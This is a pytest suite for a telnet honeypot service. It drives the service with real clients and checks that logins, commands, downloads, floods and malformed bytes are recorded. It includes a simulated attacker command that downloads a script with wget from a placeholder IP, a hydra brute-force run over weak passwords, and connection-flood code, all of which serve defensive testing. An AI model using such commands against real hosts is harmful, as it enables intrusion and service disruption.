"""The telnet service with real clients: a raw telnet conversation (login,
shell, downloads, logout), hydra's brute force, nmap -sV, hostile bytes and a
flood of connections while a legitimate client logs in."""
import random
import signal

import pytest

from conftest import free_port, read_json_lines, stop_process, wait_for, wait_log_while_running
from honeypot_clients import (Flood, connect, hydra_attack, memory_bound_kb, nmap_service, recv_until,
                              recv_until_closed, rss_kb, run_on_port_zero)

LINUX_TELNETD_GREETING = b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"


@pytest.fixture
def alerts_file(hc, tmp_path):
    hc.run("service", "install", "telnet", check=True)
    hc.run("integration", "install", "json_file", check=True)
    path = tmp_path / "alerts.json"
    hc.run("integration", "configure", "json_file", f"filepath={path}", check=True)
    return path


def start(hc, *extra):
    return run_on_port_zero(hc, "telnet", "Telnet", "hostname=honey01", *extra)


def events(path, event_type=None, session=None):
    return [a for a in read_json_lines(path)
            if (event_type is None or a["event_type"] == event_type) and (session is None or a["session"] == session)]


def test_login_shell_and_downloads_are_recorded(hc, alerts_file):
    proc, port = start(hc, "accept_after=0", "credentials=root:secret")
    with connect(port) as s:
        greeting = recv_until(s, b"honey01 login: ")
        assert greeting.startswith(LINUX_TELNETD_GREETING)
        assert b"Debian GNU/Linux 12" in greeting
        s.sendall(b"root\r\n")
        assert recv_until(s, b"Password: ").startswith(b"root\r\n")  # echoed
        s.sendall(b"toor\r\n")
        failed = recv_until(s, b"honey01 login: ")
        assert b"toor" not in failed and b"Login incorrect" in failed  # a password is never echoed
        s.sendall(b"root\r\nsecret\r\n")  # both lines in one segment
        motd = recv_until(s, b"root@honey01:~# ")
        assert b"Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY" in motd
        s.sendall(b"uname -a; wget http://198.51.100.7/x.sh -O /tmp/x\r\n")
        out = recv_until(s, b"root@honey01:~# ")
        assert b"Linux honey01 6.1.0-" in out
        assert b"Connecting to 198.51.100.7... failed" in out
        s.sendall(b"cd /tmp && cat /etc/hostname\r\n")
        assert b"honey01\r\nroot@honey01:/tmp# " in recv_until(s, b"root@honey01:/tmp# ")
        s.sendall(b"exit\r\n")
        assert b"logout" in recv_until_closed(s)
    [gone] = wait_for(lambda: events(alerts_file, "telnet.disconnect"), what="the disconnect")
    code, _, err = stop_process(proc, signal.SIGINT)
    assert code == 0, err

    session = gone["session"]
    assert gone["reason"] == "logout"
    assert (gone["login_attempts"], gone["commands"]) == (2, 3)
    logins = events(alerts_file, "telnet.login", session)
    assert [(a["username"], a["password"], a["outcome"], a["attempt"]) for a in logins] == [
        ("root", "toor", "failure", 1), ("root", "secret", "success", 2)]
    commands = events(alerts_file, "telnet.command", session)
    assert [a["cmd"] for a in commands] == ["uname -a; wget http://198.51.100.7/x.sh -O /tmp/x",
                                            "cd /tmp && cat /etc/hostname", "exit"]
    assert [a["cwd"] for a in commands] == ["/root", "/root", "/tmp"]
    [download] = events(alerts_file, "telnet.download", session)
    assert download["url"] == "http://198.51.100.7/x.sh"
    assert download["username"] == "root"
    [connect_event] = events(alerts_file, "telnet.connect", session)
    assert connect_event["originating_ip"] == "127.0.0.1" and connect_event["dest_port"] == port


def test_too_many_failed_logins_close_the_connection(hc, alerts_file):
    proc, port = start(hc, "accept_after=0", "max_attempts=2")
    with connect(port) as s:
        recv_until(s, b"login: ")
        s.sendall(b"admin\r\nadmin\r\n")
        recv_until(s, b"Login incorrect")
        s.sendall(b"admin\r\n1234\r\n")
        assert b"Login incorrect" in recv_until_closed(s)
    [gone] = wait_for(lambda: events(alerts_file, "telnet.disconnect"), what="the disconnect")
    stop_process(proc, signal.SIGINT)
    assert gone["reason"] == "too many login attempts"
    assert [a["password"] for a in events(alerts_file, "telnet.login")] == ["admin", "1234"]


def test_accept_after_lets_the_nth_attempt_in(hc, alerts_file):
    proc, port = start(hc, "accept_after=2")
    with connect(port) as s:
        recv_until(s, b"login: ")
        s.sendall(b"pi\r\nraspberry\r\n")
        recv_until(s, b"login: ")
        s.sendall(b"pi\r\npi123\r\n")
        recv_until(s, b"pi@honey01:~$ ")
        s.sendall(b"id\r\n")
        assert b"uid=1000(pi)" in recv_until(s, b"pi@honey01:~$ ")
    stop_process(proc, signal.SIGINT)
    assert [a["outcome"] for a in events(alerts_file, "telnet.login")] == ["failure", "success"]


def test_hydra_every_attempt_is_one_login_event(hc, alerts_file, tmp_path):
    users = ["root", "admin", "user", "support", "guest"]
    passwords = ["123456", "password", "admin", "12345", "root", "letmein"]
    # One attempt per connection: hydra 9.4 skips the pair after a failed
    # login when the server prompts again on the same connection (it never
    # sends it); with a fresh connection per attempt it sends every one.
    r, alerts, proc = hydra_attack(
        hc, tmp_path, lambda: start(hc, "accept_after=0", "credentials=support:letmein", "max_attempts=1"), "telnet",
        users, passwords)
    assert "login: support   password: letmein" in r.stdout, r.stdout
    assert "1 valid password found" in r.stdout, r.stdout
    expected = {(u, p) for u in users for p in passwords}
    wait_for(lambda: len(events(alerts, "telnet.login")) >= len(expected), timeout=30,
             what=f"{len(expected)} login events")
    stop_process(proc, signal.SIGINT)
    logins = events(alerts, "telnet.login")
    assert len(logins) == len(expected)
    assert {(a["username"], a["password"]) for a in logins} == expected
    assert [(a["username"], a["password"]) for a in logins if a["outcome"] == "success"] == [("support", "letmein")]


def test_nmap_identifies_linux_telnetd(hc, alerts_file):
    proc, port = start(hc)
    assert nmap_service(port) == ("telnet", "Linux telnetd")
    stop_process(proc, signal.SIGINT)


def test_hostile_bytes_and_long_lines_are_survived(hc, alerts_file):
    proc, port = start(hc, "accept_after=0", "credentials=root:x", "max_line=256")
    rng = random.Random(7)
    for _ in range(20):
        with connect(port) as s:
            recv_until(s, b"login: ")
            junk = bytes(rng.choice([0xff, 0xfa, 0xf0, 0xfb, 0xfd, 0x0d, 0x00, 0x0a, 0x41, 0x7f, 0x08])
                         for _ in range(rng.randint(1, 4000)))
            s.sendall(junk)
            s.close()
    with connect(port) as s:
        recv_until(s, b"login: ")
        s.sendall(b"\xff\xfa\x18" + b"T" * 5000)  # a subnegotiation that never ends...
        s.sendall(b"\xff\xf0" + b"x" * 1000 + b"\r\n")  # ...then a user name over max_line
        recv_until(s, b"Password: ")
        s.sendall(b"nope\r\n")
        recv_until(s, b"login: ")
        s.sendall(b"root\r\nx\r\n")
        recv_until(s, b"root@honey01:~# ")
        s.sendall(b"echo alive\r\n")
        assert b"alive" in recv_until(s, b"root@honey01:~# ")
        session_port = s.getsockname()[1]
    wait_for(lambda: [a for a in events(alerts_file, "telnet.anomaly") if a["originating_port"] == session_port],
             what="the long line's anomaly")
    stop_process(proc, signal.SIGINT)
    [anomaly] = [a for a in events(alerts_file, "telnet.anomaly") if a["originating_port"] == session_port]
    assert anomaly["reason"] == "line too long"
    [cut] = [a for a in events(alerts_file, "telnet.login") if a["originating_port"] == session_port][:1]
    assert cut["username"] == "x" * 256


def test_idle_connection_is_closed(hc, alerts_file):
    proc, port = start(hc, "idle_timeout=1")
    with connect(port) as s:
        recv_until(s, b"login: ")
        recv_until_closed(s)
    [gone] = wait_for(lambda: events(alerts_file, "telnet.disconnect"), what="the disconnect")
    stop_process(proc, signal.SIGINT)
    assert gone["reason"] == "idle timeout"


def test_flood_is_capped_while_a_client_logs_in(hc, alerts_file):
    proc, port = start(hc, "max_per_ip=40", "max_connections=2000", "credentials=root:root", "accept_after=0")
    # Garbage without line ends: every admitted connection stays at its
    # login prompt, so exactly the refused ones are closed.
    junk = bytes(b for b in random.Random(3).randbytes(2048) if b not in (10, 13))[:512]
    flood = Flood(port, sources=20, per_source=50, payload=junk)
    try:
        wait_log_while_running(hc, proc, lambda r: "max_per_ip reached" in r.get("message", ""),
                               what="a refusal logged")
        wait_for(lambda: flood.closed() == 200, timeout=30, what="200 refused connections closed")
        with connect(port, source="127.0.0.2") as s:
            recv_until(s, b"login: ")
            s.sendall(b"root\r\nroot\r\nwhoami\r\n")
            assert b"root\r\nroot@honey01:~# " in recv_until(s, b"root\r\nroot@honey01:~# ")
        assert rss_kb(proc.pid) < memory_bound_kb(proc.pid, 64)
    finally:
        flood.close()
    code, _, err = stop_process(proc, signal.SIGINT)
    assert code == 0, err
    assert [a["cmd"] for a in events(alerts_file, "telnet.command") if a["originating_ip"] == "127.0.0.2"] == ["whoami"]


def test_service_test_against_a_daemon(hc, alerts_file):
    # On 127.0.0.1, not 0.0.0.0: the flood tests' closing client sockets
    # (bound to 127.0.1.x) may still hold the port free_port() returns.
    port = free_port()
    r = hc.run("service", "run", "telnet", f"port={port}", "address=127.0.0.1", "-d", "-i", "json_file", timeout=60)
    assert r.returncode == 0, r.stdout + r.stderr
    try:
        r = hc.run("service", "test", "telnet", timeout=30)
        assert r.returncode == 0, r.stdout + r.stderr
        assert r.stdout.splitlines() == [f"telnet.{t} alert tested successfully" for t in ("connect", "login", "disconnect")]
        [login] = wait_for(lambda: events(alerts_file, "telnet.login"), what="the test login")
        assert (login["username"], login["password"]) == ("honeycomb-test", "honeycomb-test")
    finally:
        hc.run("service", "stop", "telnet", timeout=30)
